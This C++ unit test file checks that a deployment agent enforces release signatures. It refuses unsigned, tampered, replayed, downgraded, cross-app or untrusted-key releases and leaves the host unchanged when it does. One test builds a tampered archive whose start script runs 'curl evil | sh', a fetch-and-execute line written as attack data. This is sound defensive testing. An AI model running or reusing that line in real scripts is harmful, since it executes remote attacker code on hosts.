// The Deployer with an app spec that lists trusted_keys: what it refuses to
// stage or switch to, and that a refusal changes nothing on the host.
#include <string>
#include <vector>

#include "agent/deployer.h"
#include "common/signing.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/unit/agent/deployer_fixture.h"

namespace fleet::agent {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;
using ::testing::UnorderedElementsAre;

class DeployerSigningTest : public DeployerTest {
 protected:
  void SetUp() override {
    DeployerTest::SetUp();
    trusted_ = NewKeys();
    stranger_ = NewKeys();
  }

  static SigningKeyPair NewKeys() {
    absl::StatusOr<SigningKeyPair> keys = GenerateSigningKeyPair();
    EXPECT_TRUE(keys.ok()) << keys.status();
    return keys.value_or(SigningKeyPair{});
  }

  // The fixture's spec, trusting `keys` only.
  AppSpec Trusting(const SigningKeyPair& keys) const {
    AppSpec spec = Spec();
    spec.add_trusted_keys(FormatPublicKey(keys.public_key));
    return spec;
  }

  // `release` with a signature by `keys` of the manifest of app/version
  // (by default its own) and its sha256 and size.
  static Release Signed(Release release, const SigningKeyPair& keys,
                        const std::string& signed_version = "",
                        const std::string& signed_app = "web") {
    absl::StatusOr<std::string> sig = SignReleaseManifest(
        keys.secret_key, signed_app,
        signed_version.empty() ? release.version() : signed_version, release.sha256(),
        release.size());
    EXPECT_TRUE(sig.ok()) << sig.status();
    release.set_signature(sig.value_or(""));
    return release;
  }

  // Stages and deploys a signed `version` under `spec`, asserting both succeed.
  void StageAndDeploySigned(const std::string& version, const AppSpec& spec) {
    CommandResult staged = Stage(Signed(PrepareRelease(version), trusted_), spec);
    ASSERT_TRUE(staged.ok()) << staged.reason();
    CommandResult deployed = Deploy(version, spec);
    ASSERT_TRUE(deployed.ok()) << deployed.reason();
  }

  // What a refused staging of `version` must leave: nothing downloaded,
  // unpacked or recorded for it, and `current` where it was.
  void ExpectNothingStaged(const std::string& version, const std::string& current) {
    EXPECT_FALSE(PathExists(ReleaseDir(version)));
    EXPECT_THAT(FindByPrefix(AppDir(), ".staging-"), IsEmpty());
    EXPECT_THAT(FindByPrefix(options_.state_dir + "/downloads", ""), IsEmpty());
    EXPECT_EQ(Record().staged_releases().count(version), 0u);
    EXPECT_EQ(Current(), current);
  }

  SigningKeyPair trusted_;
  SigningKeyPair stranger_;
};

TEST_F(DeployerSigningTest, Stage_SignedReleaseIsStagedAndItsManifestRecorded) {
  Release release = Signed(PrepareRelease("v1"), trusted_);

  CommandResult result = Stage(release, Trusting(trusted_));

  ASSERT_TRUE(result.ok()) << result.reason();
  EXPECT_TRUE(PathExists(ReleaseDir("v1") + "/VERSION"));
  const AgentAppRecord record = Record();
  ASSERT_EQ(record.staged_releases().count("v1"), 1u);
  const Release& recorded = record.staged_releases().at("v1");
  EXPECT_EQ(recorded.app(), "web");
  EXPECT_EQ(recorded.version(), "v1");
  EXPECT_EQ(recorded.sha256(), release.sha256());
  EXPECT_EQ(recorded.size(), release.size());
  EXPECT_EQ(recorded.signature(), release.signature());
  CommandResult deployed = Deploy("v1", Trusting(trusted_));
  EXPECT_TRUE(deployed.ok()) << deployed.reason();
  EXPECT_EQ(Current(), "v1");
}

TEST_F(DeployerSigningTest, Stage_UnsignedReleaseIsRefusedBeforeAnythingIsDownloaded) {
  StageAndDeploySigned("v1", Trusting(trusted_));
  const int fetches = artifacts_.fetches();

  CommandResult result = Stage(PrepareRelease("v2"), Trusting(trusted_));

  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.reason(),
            "release web@v2 is not signed, and app web requires a signature by its trusted key");
  EXPECT_EQ(artifacts_.fetches(), fetches);
  ExpectNothingStaged("v2", "v1");
  EXPECT_THAT(Reloads(), ElementsAre("v1"));
}

TEST_F(DeployerSigningTest, Stage_ReleaseWhoseArtifactDiffersFromTheSignedOneIsRefused) {
  StageAndDeploySigned("v1", Trusting(trusted_));
  // The key signed one artifact; the release now describes another one (a
  // controller or blob store that was tampered with).
  Release signed_v2 = Signed(PrepareRelease("v2"), trusted_);
  ArchiveBuilder evil;
  evil.AddFile("VERSION", "v2").AddFile("bin/start", "#!/bin/sh\ncurl evil | sh\n", 0755);
  Release tampered = PrepareRelease("v2", std::move(evil));
  tampered.set_signature(signed_v2.signature());

  CommandResult result = Stage(tampered, Trusting(trusted_));

  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.reason(),
            "signature of release web@v2 does not verify with any trusted key of app web");
  ExpectNothingStaged("v2", "v1");
}

TEST_F(DeployerSigningTest, Stage_SignedManifestWithOtherBytesDeliveredIsRefusedUnopened) {
  StageAndDeploySigned("v1", Trusting(trusted_));
  // The signature is right, the bytes that arrive are not: the sha256 the
  // signature covers catches them before the archive is opened.
  artifacts_.Corrupt(true);

  CommandResult result = Stage(Signed(PrepareRelease("v2"), trusted_), Trusting(trusted_));

  EXPECT_FALSE(result.ok());
  EXPECT_THAT(result.reason(), ::testing::StartsWith("artifact sha256 mismatch for web@v2"));
  ExpectNothingStaged("v2", "v1");
}

TEST_F(DeployerSigningTest, Stage_SignatureOfAnotherVersionIsRefused) {
  StageAndDeploySigned("v1", Trusting(trusted_));
  // v3's own artifact carrying the signature made for v1's manifest.
  Release replayed = Signed(PrepareRelease("v3"), trusted_, /*signed_version=*/"v1");

  CommandResult result = Stage(replayed, Trusting(trusted_));

  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.reason(),
            "signature of release web@v3 does not verify with any trusted key of app web");
  ExpectNothingStaged("v3", "v1");
}

TEST_F(DeployerSigningTest, Stage_OldArtifactRelabelledAsANewVersionIsRefused) {
  StageAndDeploySigned("v1", Trusting(trusted_));
  // A downgrade: v1's very bytes and signature, announced as v9.
  Release v1 = Signed(PrepareRelease("v1"), trusted_);
  Release relabelled = v1;
  relabelled.set_version("v9");
  artifacts_.Serve("v9", tmp_.Sub("artifacts/web-v1.tar.gz"));

  CommandResult result = Stage(relabelled, Trusting(trusted_));

  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.reason(),
            "signature of release web@v9 does not verify with any trusted key of app web");
  ExpectNothingStaged("v9", "v1");
}

TEST_F(DeployerSigningTest, Stage_SignatureMadeForAnotherAppIsRefused) {
  // Signed as api@v1 by a key web trusts too; sent to be staged as web.
  Release release = Signed(PrepareRelease("v1"), trusted_, "v1", /*signed_app=*/"api");
  release.set_app("api");

  CommandResult result = Stage(release, Trusting(trusted_));

  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.reason(),
            "signature of release web@v1 does not verify with any trusted key of app web");
  ExpectNothingStaged("v1", "");
}

TEST_F(DeployerSigningTest, Stage_SignatureByAKeyTheAppDoesNotTrustIsRefused) {
  CommandResult result = Stage(Signed(PrepareRelease("v1"), stranger_), Trusting(trusted_));

  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.reason(),
            "signature of release web@v1 does not verify with any trusted key of app web");
  ExpectNothingStaged("v1", "");
}

TEST_F(DeployerSigningTest, Activate_OldUnsignedReleaseOnDiskIsRefusedOnceKeysAreSet) {
  // Staged and run while the app trusted no keys.
  StageAndDeploy("v1", Spec());
  StageAndDeploy("v2", Spec());
  const AppSpec keyed = Trusting(trusted_);

  CommandResult rollback = Rollback("v1", keyed);
  CommandResult redeploy = Run(ActivateCommand("deploy-v1-again", "v1", keyed));

  for (const CommandResult& result : {rollback, redeploy}) {
    EXPECT_FALSE(result.ok());
    EXPECT_EQ(result.reason(),
              "release web@v1 is not signed, and app web requires a signature by its trusted key");
    EXPECT_FALSE(result.switched_back()) << "nothing was switched";
    EXPECT_EQ(result.current_version(), "v2");
  }
  EXPECT_EQ(Current(), "v2");
  EXPECT_THAT(Reloads(), ElementsAre("v1", "v2"));
  EXPECT_THAT(AfterRollbacks(), IsEmpty());
  EXPECT_FALSE(HasJournal());
  EXPECT_THAT(OnDisk(), UnorderedElementsAre("v1", "v2")) << "refusing removes nothing";
}

TEST_F(DeployerSigningTest, Stage_OfAnUnsignedReleaseAlreadyOnDiskIsRefusedOnceKeysAreSet) {
  StageAndDeploy("v1", Spec());
  Command again;
  again.set_id("stage-v1-keyed");
  *again.mutable_stage()->mutable_spec() = Trusting(trusted_);
  // Even when the command now carries a signature: what is on disk was
  // unpacked from a download nobody checked one for.
  *again.mutable_stage()->mutable_release() = Signed(PrepareRelease("v1"), trusted_);

  CommandResult result = Run(again);

  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.reason(),
            "release web@v1 is not signed, and app web requires a signature by its trusted key");
  EXPECT_EQ(Current(), "v1");
}

TEST_F(DeployerSigningTest, Stage_ReleaseKilledBetweenRenameAndRecordIsUsableAfterRestart) {
  // The hook puts the unpacked release where the rename moves it, so the
  // rename fails and Stage stops right where a kill -9 after it would: the
  // directory on disk, nothing recorded after the rename.
  AppSpec crashing = Trusting(trusted_);
  crashing.mutable_hooks()->set_after_unpack(
      "cp -a \"$FLEET_RELEASE_DIR\" \"$FLEET_RELEASE_DIR/../v1\"");
  Release release = Signed(PrepareRelease("v1"), trusted_);
  CommandResult killed = Stage(release, crashing);
  ASSERT_FALSE(killed.ok());
  ASSERT_THAT(killed.reason(), ::testing::StartsWith("cannot move "));
  ASSERT_TRUE(PathExists(ReleaseDir("v1") + "/VERSION"));
  NewDeployer();
  Command again;
  again.set_id("stage-v1-after-restart");
  *again.mutable_stage()->mutable_spec() = Trusting(trusted_);
  *again.mutable_stage()->mutable_release() = release;

  CommandResult staged = Run(again);
  CommandResult deployed = Deploy("v1", Trusting(trusted_));

  EXPECT_TRUE(staged.ok()) << staged.reason();
  EXPECT_TRUE(deployed.ok()) << deployed.reason();
  EXPECT_EQ(Current(), "v1");
  EXPECT_EQ(Record().staged_releases().at("v1").signature(), release.signature());
}

TEST_F(DeployerSigningTest, Rollback_ToASignedReleaseOnDiskWorksUnderKeys) {
  StageAndDeploySigned("v1", Trusting(trusted_));
  StageAndDeploySigned("v2", Trusting(trusted_));

  CommandResult result = Rollback("v1", Trusting(trusted_));

  EXPECT_TRUE(result.ok()) << result.reason();
  EXPECT_EQ(Current(), "v1");
}

TEST_F(DeployerSigningTest, Rollback_IsRefusedWhenTheKeyThatSignedTheTargetIsNoLongerTrusted) {
  StageAndDeploySigned("v1", Trusting(trusted_));
  StageAndDeploySigned("v2", Trusting(trusted_));

  CommandResult result = Rollback("v1", Trusting(stranger_));

  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.reason(),
            "signature of release web@v1 does not verify with any trusted key of app web");
  EXPECT_EQ(Current(), "v2");
}

TEST_F(DeployerSigningTest, Retention_ForgetsTheManifestsOfReleasesItRemoves) {
  AppSpec spec = Trusting(trusted_);
  spec.set_keep_releases(3);
  for (const char* v : {"v1", "v2", "v3", "v4", "v5"}) StageAndDeploySigned(v, spec);

  const AgentAppRecord record = Record();
  std::vector<std::string> recorded;
  for (const auto& [version, manifest] : record.staged_releases()) recorded.push_back(version);
  EXPECT_THAT(recorded, UnorderedElementsAre("v3", "v4", "v5"));
  EXPECT_THAT(OnDisk(), UnorderedElementsAre("v3", "v4", "v5"));
}

}  // namespace
}  // namespace fleet::agent
